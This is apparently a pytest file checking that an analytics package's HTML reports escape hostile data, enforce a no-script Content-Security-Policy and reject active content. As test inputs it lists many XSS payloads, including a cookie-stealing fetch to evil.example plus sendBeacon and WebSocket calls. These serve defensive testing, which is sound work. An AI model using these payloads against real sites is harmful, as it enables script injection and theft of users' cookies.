"""Hostile data in the HTML reports: escaped everywhere, a no-script CSP, an offline check that
refuses active content, and an end-to-end render of reports whose data carry XSS payloads."""

from __future__ import annotations

import re
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

import analysis.report.display as display_mod
from analysis.errors import Attempt
from analysis.report.display import Markdown, escape_markdown, note, show, styled_table
from analysis.report.html import (
    CSP,
    CSP_META,
    OfflineError,
    assert_offline,
    find_active_content,
    find_external_urls,
    header_html,
    notebook_to_html,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS = "javascript:alert(1)"
PAYLOADS = (SCRIPT, IMG, JS)
NOTEBOOKS = Path(__file__).resolve().parents[1] / "notebooks"


def page_with(body: str, head: str = CSP_META) -> str:
    return f"<html><head>{head}</head><body>{body}</body></html>"


class _Page(HTMLParser):
    """What a browser would see: start tags with decoded attributes, and the visible text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self._skip = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._skip += tag in ("style", "script", "title")

    def handle_endtag(self, tag):
        self._skip -= tag in ("style", "script", "title") and self._skip > 0

    def handle_data(self, data):
        if not self._skip:
            self.text.append(data)


def assert_inert(html: str) -> _Page:
    """No script element, no event handler, no script URL, images inline only, CSP first."""
    assert not re.search(r"<script", html, re.I)
    page = _Page(html)
    for tag, attrs in page.tags:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        for name, value in attrs.items():
            assert not re.sub(r"[\x00-\x20]", "", value).lower().startswith(("javascript:", "vbscript:")), (tag, name)
        if tag == "img":
            assert attrs["src"].startswith("data:image/"), attrs["src"][:80]
    # the CSP <meta> is the first element of <head>
    head = [t for t in page.tags if t[0] not in ("html", "head")]
    assert head[0] == ("meta", {"http-equiv": "Content-Security-Policy", "content": CSP})
    assert find_active_content(html) == [] and find_external_urls(html) == []
    return page


# --------------------------------------------------------------------------------------------
# first wall: Markdown and tables from report.display


def test_escape_markdown_exact():
    assert escape_markdown(SCRIPT) == "&lt;script>alert(1)&lt;/script>"
    assert escape_markdown(IMG) == '">&lt;img src=x onerror=alert(1)>'
    assert escape_markdown(JS) == "javascript&#58;alert(1)"
    assert escape_markdown("[x](javascript:alert(1))") == "&#91;x&#93;(javascript&#58;alert(1))"
    assert escape_markdown("![i](https://evil.example/p.png)") == "!&#91;i&#93;(https&#58;//evil.example/p.png)"
    assert escape_markdown("www.evil.example $x$ a\\*b & c") == "www&#46;evil.example &#36;x&#36; a&#92;*b &amp; c"
    # our own Markdown is kept as it is
    own = "### By branch\n\n> **Note.** rates: 1.2 to 1.5\n\n- **bold** and *italic*"
    assert escape_markdown(own) == own


def test_safe_markdown_renders_payloads_as_text_and_keeps_our_markdown():
    text = (f"### By {IMG}\n\n> **Note.** {SCRIPT}\n\n- **{JS}**: [x](javascript:alert(1)) "
            "![i](https://evil.example/p.png) <https://evil.example> https://evil.example")
    html = markdown2html_mistune(Markdown(text)._repr_markdown_())
    assert "<script" not in html and "<img" not in html and "javascript:alert(1)\"" not in html
    assert html.startswith('<h3 id="By-')  # the heading still is one, its anchor the only link
    assert re.findall(r"<a [^>]*>", html) == ['<a class="anchor-link" href="#By-%22%3E%3Cimg-src=x-onerror=alert(1)%3E">']
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<blockquote>\n<p><strong>Note.</strong>" in html
    assert "<li><strong>javascript:alert(1)</strong>: [x](javascript:alert(1)) ![i](https://evil.example/p.png)" in html
    # the unescaped text would have made a script link and an image: the test can fail
    raw = markdown2html_mistune(text)
    assert '<a href="javascript:alert(1)">' in raw and '<img src="https://evil.example/p.png"' in raw


def test_safe_markdown_never_loads_a_url_or_a_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET CONTENT")
    assert Markdown("https://evil.example/x.md")._repr_markdown_() == "https&#58;//evil.example/x.md"
    assert Markdown(str(secret))._repr_markdown_() == escape_markdown(str(secret))
    assert "SECRET" not in Markdown(str(secret))._repr_markdown_()


@pytest.fixture
def shown(monkeypatch):
    """Objects that report.display hands to IPython's display."""
    out: list = []
    monkeypatch.setattr(display_mod, "_ipy_display", lambda obj, **kw: out.append(obj))
    return out


def test_show_escapes_cells_headers_and_caption(shown):
    df = pd.DataFrame({SCRIPT: PAYLOADS, "rate": [1.0, 2.5, np.nan]})
    show(df, digits=1, caption=f"By {IMG}")
    caption, table = shown
    assert caption._repr_markdown_() == '*By ">&lt;img src=x onerror=alert(1)>*'
    html = table.to_html()
    assert "<script" not in html and "<img" not in html
    assert re.search(r"<th [^>]*>&lt;script&gt;alert\(1\)&lt;/script&gt;</th>", html)
    cells = re.findall(r'<td class="data row\d col0" >(.*?)</td>', html)
    assert cells == ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;", JS]
    assert re.findall(r'<td class="data row\d col1" >(.*?)</td>', html) == ["1.0", "2.5", "–"]


def test_styled_table_escapes_the_index_too():
    html = styled_table(pd.DataFrame({"n": [1]}, index=[SCRIPT]), index=True).to_html()
    assert re.search(r"<th [^>]*>&lt;script&gt;alert\(1\)&lt;/script&gt;</th>", html) and "<script" not in html
    assert SCRIPT not in styled_table(pd.DataFrame({"n": [1]}, index=[SCRIPT])).to_html()  # hidden by default


def test_note_and_failed_attempt_are_escaped(shown):
    note(f"branch {SCRIPT} has too few customers")
    show(Attempt(note=f"not estimable: level {IMG}"))
    assert [o._repr_markdown_() for o in shown] == [
        "> **Note.** branch &lt;script>alert(1)&lt;/script> has too few customers",
        '> **Note.** not estimable: level ">&lt;img src=x onerror=alert(1)>',
    ]


def test_display_makes_ipython_markdown_safe_and_shows_frames(shown):
    from IPython.display import Markdown as IPyMarkdown

    display_mod.display(IPyMarkdown(f"### {SCRIPT}"), pd.DataFrame({"g": [SCRIPT]}), "plain")
    md, table, plain = shown
    assert isinstance(md, Markdown) and md._repr_markdown_() == "### &lt;script>alert(1)&lt;/script>"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in table.to_html()
    assert plain == "plain"


@pytest.mark.parametrize("name", ["01_attrition_overview", "03_attrition_drivers"])
def test_notebooks_display_through_the_safe_markdown(name):
    source = (NOTEBOOKS / f"{name}.py").read_text(encoding="utf-8")
    assert "from analysis.report.display import Markdown, display" in source
    assert "IPython.display" not in source


# --------------------------------------------------------------------------------------------
# header, title, template


def test_header_escapes_title_rows_and_parameters():
    header = header_html(SCRIPT, {"Data": IMG, JS: "x", "Parameters": {"branch": SCRIPT}})
    assert "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>" in header
    assert "<tr><th>Data</th><td>&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</td></tr>" in header
    assert "<tr><th>javascript:alert(1)</th><td>x</td></tr>" in header
    assert "<code>branch=&lt;script&gt;alert(1)&lt;/script&gt;</code>" in header
    assert "<script" not in header and "<img" not in header


def notebook(*outputs, markdown="# Report\n\nText."):
    code = new_code_cell("x = 1")
    code.outputs = list(outputs)
    return new_notebook(cells=[new_markdown_cell(markdown), code])


def test_page_has_csp_first_and_no_script_even_for_javascript_and_widget_outputs():
    nb = notebook(
        new_output("display_data", data={"application/javascript": "alert(1)", "text/plain": "js"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "m"},
                                         "text/plain": "w"}),
        new_output("display_data", data={"text/vnd.mermaid": f"graph {SCRIPT}", "text/plain": "m"}),
        new_output("display_data", data={"text/markdown": Markdown(f"By {SCRIPT}")._repr_markdown_()}),
    )
    page = notebook_to_html(nb, title=SCRIPT, info={"Data": IMG})
    assert page.index("Content-Security-Policy") < page.index("<meta charset")
    parsed = assert_inert(page)
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>" in page
    text = "".join(parsed.text)
    assert f"graph {SCRIPT}" in text and f"By {SCRIPT}" in text and IMG in text


@pytest.mark.parametrize(
    "output, problem",
    [
        # mistune splits the inline tag from its text; the element is there all the same
        ({"text/markdown": f"By {SCRIPT}"}, "<script> element: '<script></script>'"),
        # nbconvert's re-serialised tag (it adds an alt text), cut to 80 characters
        ({"text/html": "<img src=x onerror=alert(1)>"},
         "event-handler attribute onerror on <img>: "
         "'<img alt=\"No description has been provided for this image\" onerror=\"alert(1)\"...'"),
        ({"text/markdown": "[x](javascript:alert(1))"}, "javascript: URL in href of <a>: '<a href=\"javascript:alert(1)\">'"),
    ],
)
def test_a_missed_escape_fails_the_render_naming_the_snippet(output, problem):
    """IPython's own Markdown/HTML would pass data raw: the export refuses the page."""
    with pytest.raises(OfflineError) as err:
        notebook_to_html(notebook(new_output("display_data", data=output)), title="r")
    assert str(err.value) == f"report 'r' is not offline: it has 1 piece(s) of active content:\n  {problem}"


# --------------------------------------------------------------------------------------------
# the offline check


@pytest.mark.parametrize(
    "body, problems",
    [
        (SCRIPT, ["<script> element: '<script>alert(1)</script>'"]),
        ("<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>",
         ["<script> element: '<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>'",
          "data: URL in src of <script>: '<SCRIPT SRC=data:text/javascript,alert(1)>'"]),
        ("<!-- <script>x</script> -->", ["<script> element: '<script>x</script>'"]),
        ("<img src=x onerror=alert(1)>", ["event-handler attribute onerror on <img>: '<img src=x onerror=alert(1)>'"]),
        ("<IMG SRC=x ONERROR=alert(1)>", ["event-handler attribute onerror on <img>: '<IMG SRC=x ONERROR=alert(1)>'"]),
        # a browser reads src="x/onerror=..."; counted anyway (never one finding less)
        ("<img/src=x/onerror=alert(1)>", ["event-handler attribute onerror on <img>: '<img/src=x/onerror=alert(1)>'"]),
        ('<img alt=">" onerror=alert(1)>', ["event-handler attribute onerror on <img>: '<img alt=\">\" onerror=alert(1)>'"]),
        ("<svg/onload=alert(1)>", ["event-handler attribute onload on <svg>: '<svg/onload=alert(1)>'"]),
        ('<div onclick="x()">x</div>', ["event-handler attribute onclick on <div>: '<div onclick=\"x()\">'"]),
        ('<a href="javascript:alert(1)">x</a>', ["javascript: URL in href of <a>: '<a href=\"javascript:alert(1)\">'"]),
        ('<a href="&#106;avascript&#58;alert(1)">x</a>',
         ["javascript: URL in href of <a>: '<a href=\"&#106;avascript&#58;alert(1)\">'"]),
        ('<a href="jav&#x09;ascript:alert(1)">x</a>', ["javascript: URL in href of <a>: '<a href=\"jav&#x09;ascript:alert(1)\">'"]),
        ('<a href=" JaVa\nScRiPt:alert(1)">x</a>', ["javascript: URL in href of <a>: '<a href=\" JaVa ScRiPt:alert(1)\">'"]),
        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
         ["javascript: URL in xlink:href of <a>: '<a xlink:href=\"javascript:alert(1)\">'"]),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
         ["data: URL in href of <a>: '<a href=\"data:text/html;base64,PHNjcmlwdD4=\">'"]),
        ('<iframe src="data:text/html,x"></iframe>',
         ["<iframe> element: '<iframe src=\"data:text/html,x\">'", "data: URL in src of <iframe>: '<iframe src=\"data:text/html,x\">'"]),
        ('<object data="x.swf"></object>', ["<object> element: '<object data=\"x.swf\">'"]),
        ('<base href="/x/">', ["<base> element: '<base href=\"/x/\">'"]),
        ('<form action="/x"><input></form>', ["<form> element: '<form action=\"/x\">'"]),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
         ["meta refresh: '<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">'"]),
        ("<meta http-equiv=REFRESH content=0>", ["meta refresh: '<meta http-equiv=REFRESH content=0>'"]),
        ('<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
         ["<script> element: '<script>fetch(\"https://evil.example/?c=\" + document.cookie)</script>'",
          "network call in a <script>: 'fetch(\"https://evil.example/?c=\" + document.cookie)'"]),
        ('<style>x{}</style><script>new WebSocket("wss://e.example")</script>',
         ["<script> element: '<script>new WebSocket(\"wss://e.example\")</script>'",
          "network call in a <script>: 'new WebSocket(\"wss://e.example\")'"]),
        ("<!-- var r = new XMLHttpRequest() -->", ["network call in a comment: 'var r = new XMLHttpRequest()'"]),
        ('<img src="data:image/png;base64,AA" data-x="navigator.sendBeacon(\'https://e.example\')">',
         ["network call in attribute data-x of <img>: \"navigator.sendBeacon('https://e.example')\""]),
        ("<style>body{background:url(javascript:alert(1))}</style>",
         ["script in a <style>: 'body{background:url(javascript:alert(1))}'"]),
        ('<div style="width: expression(alert(1))">x</div>',
         ["script in the style of <div>: '<div style=\"width: expression(alert(1))\">'"]),
    ],
)
def test_active_content_is_found_and_named(body, problems):
    page = page_with(body)
    assert find_active_content(page) == problems
    with pytest.raises(OfflineError) as err:
        assert_offline(page, what="report 'x'")
    listing = "".join(f"\n  {p}" for p in problems)
    assert str(err.value) == f"report 'x' is not offline: it has {len(problems)} piece(s) of active content:{listing}"


def test_escaped_payloads_in_text_and_quoted_ids_pass():
    """Data shown as text may say anything; nbconvert's heading ids quote it."""
    body = (
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1) onerror=alert(1) "
        'fetch("https://x.example") new XMLHttpRequest()</p>'
        '<h3 id="By-%22%3E%3Cimg-src=x-onerror=alert(1)%3E">By x<a class="anchor-link" '
        'href="#By-%22%3E%3Cimg-src=x-onerror=alert(1)%3E">¶</a></h3><img src="data:image/png;base64,AA">'
    )
    assert find_active_content(page_with(body)) == []
    assert_offline(page_with(body))


@pytest.mark.parametrize(
    "head, problem",
    [
        ("", "no Content-Security-Policy <meta> (one forbidding scripts must open <head>: see html.CSP_META)"),
        ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src \'unsafe-inline\'">',
         "the Content-Security-Policy does not forbid scripts: \"default-src 'none'; script-src 'unsafe-inline'\""),
        ('<meta http-equiv="Content-Security-Policy" content="img-src data:">',
         "the Content-Security-Policy does not forbid scripts: 'img-src data:'"),
        (f"<style>p {{}}</style>{CSP_META}",
         "the Content-Security-Policy <meta> comes after content: it must open <head>"),
    ],
)
def test_a_missing_weak_or_late_csp_fails(head, problem):
    page = page_with("<p>x</p>", head=head)
    assert find_active_content(page) == [problem]
    assert find_active_content(page, require_csp=False) == []
    with pytest.raises(OfflineError, match=re.escape(problem)):
        assert_offline(page)


def test_snippets_in_messages_are_bounded():
    page = page_with('<img src=x onerror="' + "a" * 100_000 + '">' + "<script>" + "b" * 100_000 + "</script>")
    with pytest.raises(OfflineError) as err:
        assert_offline(page)
    lines = str(err.value).splitlines()
    assert len(lines) == 3 and max(len(line) for line in lines) < 140
    assert lines[1] == "  <script> element: '<script>" + "b" * 69 + "...'"


def test_external_url_after_a_quoted_gt_is_found():
    assert find_external_urls('<img alt=">" src="https://x.example/a.png">') == ["https://x.example/a.png"]


# --------------------------------------------------------------------------------------------
# end to end: a mapped extract whose branch names, group levels and column names are payloads

AS_OF = "2026-03-31"


@pytest.fixture(scope="module")
def hostile_render(tmp_path_factory):
    from analysis.report.runner import render

    tmp = tmp_path_factory.mktemp("hostile")
    rng = np.random.default_rng(7)
    n = 300
    products = rng.integers(1, 5, n)
    days = np.floor(rng.exponential(900 * np.exp(0.25 * products), n)).clip(0, 2500)
    left = (rng.random(n) < 0.6).astype(int)
    pd.DataFrame({
        "Nr": [f"X{i:05d}" for i in range(n)],
        "Tage": days,
        "Status": np.where(left == 1, "closed", "active"),
        "Produkte": products,
        IMG: rng.choice(PAYLOADS, n),  # a group: payload column name and levels
        SCRIPT: rng.choice(PAYLOADS, n),  # the branch column
        JS: rng.integers(20, 80, n),  # a numeric covariate
        "Wert": np.round(rng.lognormal(9, 1.5, n), 2),
    }).to_csv(tmp / "book.csv", index=False)
    (tmp / "book.yml").write_text(yaml.safe_dump({
        "format": "snapshot", "path": "book.csv", "id": "Nr", "duration": "Tage", "duration_unit": "days",
        "event": {"column": "Status", "churned": ["closed"], "active": ["active"]},
        "products": "Produkte", "groups": [IMG], "numeric": [JS], "value": "Wert", "branch": SCRIPT,
    }), encoding="utf-8")
    (tmp / "schedule.yml").write_text(textwrap.dedent("""
        reports:
          - notebook: 01_attrition_overview
          - notebook: 03_attrition_drivers
    """))
    result = render(tmp / "schedule.yml", data=str(tmp / "book.yml"), out_dir=tmp / "out", jobs=2,
                    progress=False, as_of=AS_OF)
    return result, tmp / "out"


@pytest.mark.parametrize("name", ["01_attrition_overview__bank", "03_attrition_drivers__bank"])
def test_hostile_report_renders_inert_with_payloads_as_text(hostile_render, name):
    result, out = hostile_render
    assert result.ok, [(r.name, r.error) for r in result.failed]
    html = (out / AS_OF / f"{name}.html").read_text(encoding="utf-8")
    page = assert_inert(html)
    text = "".join(page.text)
    for payload in PAYLOADS:
        assert payload in text, payload  # shown, literally
    # in a table cell, in a column header and in a heading built from the data
    assert re.search(r"<td [^>]*>[^<]*&lt;script&gt;alert\(1\)&lt;/script&gt;[^<]*</td>", html)
    assert re.search(r"<td [^>]*>javascript:alert\(1\)</td>", html)  # a level, or the covariate
    if name.startswith("01"):
        assert re.search(r"<th [^>]*>\"&gt;&lt;img src=x onerror=alert\(1\)&gt;</th>", html)
        assert re.search(r'<h3 id="[^"]*">By "&gt;&lt;img src=x onerror=alert\(1\)&gt;<a ', html)
        assert "By branch (&lt;script&gt;alert(1)&lt;/script&gt;)" in html


def test_hostile_index_is_inert(hostile_render):
    result, out = hostile_render
    html = result.index_path.read_text(encoding="utf-8")
    assert_inert(html)
